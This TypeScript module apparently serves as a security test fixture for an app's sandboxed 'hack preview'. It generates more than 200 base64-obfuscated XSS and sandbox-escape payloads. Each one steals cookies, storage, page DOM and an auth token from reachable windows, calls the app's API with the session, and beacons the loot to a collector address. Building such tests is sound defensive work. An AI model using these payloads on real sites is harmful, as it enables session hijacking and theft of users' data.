// XSS and sandbox-escape payloads for the hack preview (decision 028). Each payload is a hack
// (its files) whose code, once it runs by whatever vector, calls the same exploit: read every secret of
// the app it can reach (the session cookie, the app's localStorage and sessionStorage, the app page's DOM
// through parent/top/opener/a framed or opened app page), call the app's API with the session, and send
// whatever it found to a collector address. The oracle (hacks-sandbox.spec.ts) watches every request the
// browser makes: a secret in any URL or body, or an API call carrying the session, is a leak.

export type Payload = { name: string; files: { name: string; content: string }[] };

/** The exploit, as a function body; `APP` and `COLLECT` are given. Every attempt is caught and goes on. */
export const exploitSource = (app: string, collect: string) => `
(function neonlabExploit(tag) {
  var APP = ${JSON.stringify(app)}, COLLECT = ${JSON.stringify(collect)};
  var found = [];
  function grab(label, read) { try { var v = read(); if (v !== undefined && v !== null && String(v) !== "") found.push(label + "=" + String(v)); } catch (e) {} }
  var wins = [];
  function add(w) { try { if (w && wins.indexOf(w) < 0) wins.push(w); } catch (e) {} }
  add(window); try { add(parent); add(top); add(opener); add(parent.parent); } catch (e) {}
  try { var opened = window.open(APP + "/api/build", "_blank"); add(opened); } catch (e) {}
  try { var f = document.createElement("iframe"); f.src = APP + "/api/build"; (document.body || document.documentElement).appendChild(f); add(f.contentWindow); } catch (e) {}
  wins.forEach(function (w, i) {
    grab("cookie" + i, function () { return w.document.cookie; });
    grab("ls" + i, function () { return JSON.stringify(w.localStorage); });
    grab("ss" + i, function () { return JSON.stringify(w.sessionStorage); });
    grab("dom" + i, function () { return w.document.documentElement.outerHTML.slice(0, 20000); });
    grab("loc" + i, function () { return w.location.href; });
  });
  grab("cookie", function () { return document.cookie; });
  grab("ls", function () { return JSON.stringify(localStorage); });
  var token = null;
  found.forEach(function (item) { var m = /neonlab-auth-token=([^;\\s"]+)/.exec(item); if (m) token = decodeURIComponent(m[1]); });
  var headers = token ? { Authorization: "Bearer " + token } : {};
  try { fetch(APP + "/api/profile", { credentials: "include", headers: headers }).then(function (r) { return r.text(); }).then(function (t) { send("api:" + t); }, function () {}); } catch (e) {}
  try { fetch(APP + "/api/hacks", { method: "POST", credentials: "include", headers: Object.assign({ "content-type": "application/json" }, headers), body: "{}" }).catch(function () {}); } catch (e) {}
  try { var x = new XMLHttpRequest(); x.open("GET", APP + "/api/users/ledger"); x.withCredentials = true; if (token) x.setRequestHeader("Authorization", "Bearer " + token); x.send(); } catch (e) {}
  try { navigator.sendBeacon(APP + "/api/users/reports", JSON.stringify({ cause: "bug", description: "sent by a hack payload" })); } catch (e) {}
  function send(data) {
    var q = COLLECT + "?tag=" + encodeURIComponent(tag) + "&d=" + encodeURIComponent(String(data).slice(0, 6000));
    try { fetch(q, { method: "POST", body: String(data), mode: "no-cors" }).catch(function () {}); } catch (e) {}
    try { new Image().src = q; } catch (e) {}
  }
  send(found.join("|") || "nothing");
})`;

/** Ways code gets to run (X is the exploit call). */
const VECTORS: [string, (x: string) => string][] = [
  ["script", (x) => `<script>${x}</script>`],
  ["img-onerror", (x) => `<img src="x" onerror="${x}">`],
  ["svg-onload", (x) => `<svg onload="${x}"></svg>`],
  ["body-onload", (x) => `<body onload="${x}"></body>`],
  ["iframe-srcdoc", (x) => `<iframe srcdoc="<script>${x.replace(/"/g, "&quot;")}</script>"></iframe>`],
  ["iframe-data", (x) => `<iframe src="data:text/html,<script>${encodeURIComponent(x)}</script>"></iframe>`],
  ["iframe-javascript", (x) => `<iframe src="javascript:${encodeURIComponent(x)}"></iframe>`],
  [
    "a-javascript-click",
    (x) =>
      `<a id="jsl" href="javascript:${encodeURIComponent(x)}">x</a><script>document.getElementById("jsl").click()</script>`,
  ],
  ["meta-refresh", (x) => `<meta http-equiv="refresh" content="0;url=javascript:${encodeURIComponent(x)}">`],
  ["object-data", (x) => `<object data="data:text/html,<script>${encodeURIComponent(x)}</script>"></object>`],
  ["embed", (x) => `<embed src="data:text/html,<script>${encodeURIComponent(x)}</script>">`],
  [
    "form-javascript",
    (x) =>
      `<form id="jf" action="javascript:${encodeURIComponent(x)}"></form><script>document.getElementById("jf").submit()</script>`,
  ],
  ["details-ontoggle", (x) => `<details open ontoggle="${x}"><summary>s</summary></details>`],
  ["video-source-onerror", (x) => `<video><source onerror="${x}"></video>`],
  ["audio-onerror", (x) => `<audio src="x" onerror="${x}"></audio>`],
  ["input-autofocus", (x) => `<input autofocus onfocus="${x}">`],
  ["style-onload", (x) => `<style onload="${x}"></style>`],
  ["link-onerror", (x) => `<link rel="stylesheet" href="nothing.css" onerror="${x}">`],
  ["set-timeout-string", (x) => `<script>setTimeout(${JSON.stringify(x)}, 0)</script>`],
  ["eval", (x) => `<script>eval(${JSON.stringify(x)})</script>`],
  ["function-constructor", (x) => `<script>new Function(${JSON.stringify(x)})()</script>`],
  [
    "blob-script",
    (x) =>
      `<script>var s=document.createElement("script");s.src=URL.createObjectURL(new Blob([${JSON.stringify(x)}]));document.head.appendChild(s)</script>`,
  ],
  ["module-script", (x) => `<script type="module">${x}</script>`],
  [
    "document-write",
    (x) => `<script>document.write("<img src=x onerror=" + JSON.stringify(${JSON.stringify(x)}) + ">")</script>`,
  ],
  [
    "inner-html",
    (x) =>
      `<div id="ih"></div><script>document.getElementById("ih").innerHTML = "<img src=x onerror=" + JSON.stringify(${JSON.stringify(x)}) + ">"</script>`,
  ],
  [
    "worker",
    (x) =>
      `<script>try{new Worker(URL.createObjectURL(new Blob(["try{" + ${JSON.stringify(x)} + "}catch(e){}"])))}catch(e){}; ${x}</script>`,
  ],
  [
    "top-navigation",
    (x) => `<script>try{top.location.href=${JSON.stringify("javascript:void 0")}}catch(e){}; ${x}</script>`,
  ],
  [
    "document-domain",
    (x) =>
      `<script>try{document.domain="localhost"}catch(e){}; try{document.domain="127.0.0.1"}catch(e){}; ${x}</script>`,
  ],
  [
    "spoofed-messages",
    (x) =>
      `<script>try{top.postMessage({source:"neonlab-sandbox",type:"ready"},"*");parent.postMessage({source:"neonlab-check",steal:document.cookie},"*")}catch(e){}; ${x}</script>`,
  ],
  [
    "service-worker",
    (x) => `<script>try{navigator.serviceWorker.register("sw.js").catch(function(){})}catch(e){}; ${x}</script>`,
  ],
  [
    "indexeddb-caches",
    (x) => `<script>try{indexedDB.open("neonlab")}catch(e){}; try{caches.keys()}catch(e){}; ${x}</script>`,
  ],
  [
    "broadcast-channel",
    (x) => `<script>try{new BroadcastChannel("neonlab").postMessage("hi")}catch(e){}; ${x}</script>`,
  ],
  ["window-name", (x) => `<script>try{window.name=document.cookie}catch(e){}; ${x}</script>`],
  ["svg-script", (x) => `<svg><script>${x}</script></svg>`],
  ["math-xlink", (x) => `<math><mtext><img src="x" onerror="${x}"></mtext></math>`],
  [
    "template-import",
    (x) =>
      `<template id="tp"><img src="x" onerror="${x}"></template><script>document.body.appendChild(document.getElementById("tp").content.cloneNode(true))</script>`,
  ],
  ["marquee", (x) => `<marquee onstart="${x}">m</marquee>`],
  [
    "animation-event",
    (x) =>
      `<style>@keyframes k{from{opacity:0}to{opacity:1}}</style><div style="animation:k 1ms" onanimationstart="${x}"></div>`,
  ],
  [
    "popup-opener",
    (x) =>
      `<script>try{var w=window.open("about:blank");w.document.write("<script>" + ${JSON.stringify(x)} + "<\\/script>")}catch(e){}; ${x}</script>`,
  ],
  ["base-href", (x) => `<base href="${"http://localhost/"}"><script>${x}</script>`],
];

/** Where the vector sits in the hack: the page, its head, written by script.js, broken out of CSS or an attribute. */
const CONTEXTS: [string, (vector: string, x: string) => Payload["files"]][] = [
  ["body", (v) => [{ name: "index.html", content: `<!doctype html><html><body><p>payload</p>${v}</body></html>` }]],
  ["head", (v) => [{ name: "index.html", content: `<!doctype html><html><head>${v}</head><body>h</body></html>` }]],
  [
    "script-file",
    (v) => [
      {
        name: "index.html",
        content: '<!doctype html><html><body><div id="out"></div><script src="script.js"></script></body></html>',
      },
      {
        name: "script.js",
        content: `document.getElementById("out").innerHTML = ${JSON.stringify(v)};\ndocument.write(${JSON.stringify(v)});`,
      },
    ],
  ],
  [
    "css-breakout",
    (v) => [
      {
        name: "index.html",
        content: '<!doctype html><html><head><link rel="stylesheet" href="style.css"></head><body>c</body></html>',
      },
      { name: "style.css", content: `body{color:red}</style>${v}<style>` },
    ],
  ],
  [
    "attribute-breakout",
    (v) => [
      {
        name: "index.html",
        content: `<!doctype html><html><body><div title=""">${v}"><a href='x'>'>${v}</a></div></body></html>`,
      },
    ],
  ],
  [
    "script-breakout",
    (v, x) => [
      { name: "index.html", content: '<!doctype html><html><body><script src="script.js"></script></body></html>' },
      { name: "script.js", content: `var s = "</script>${v.replace(/"/g, "'")}";\n${x};` },
    ],
  ],
];

/** Every vector in every context: ≥ 200 hacks, each running the exploit tagged with its name. */
export function payloads(app: string, collect: string): Payload[] {
  // Base64 inside single quotes: the call has no double quote, so it fits every attribute and string.
  const exploit = `eval(atob('${Buffer.from(exploitSource(app, collect)).toString("base64")}'))`;
  const list: Payload[] = [];
  for (const [vectorName, vector] of VECTORS) {
    for (const [contextName, place] of CONTEXTS) {
      const name = `${vectorName}/${contextName}`;
      const call = `${exploit}('${name}')`;
      list.push({ name, files: place(vector(call), call) });
    }
  }
  return list;
}
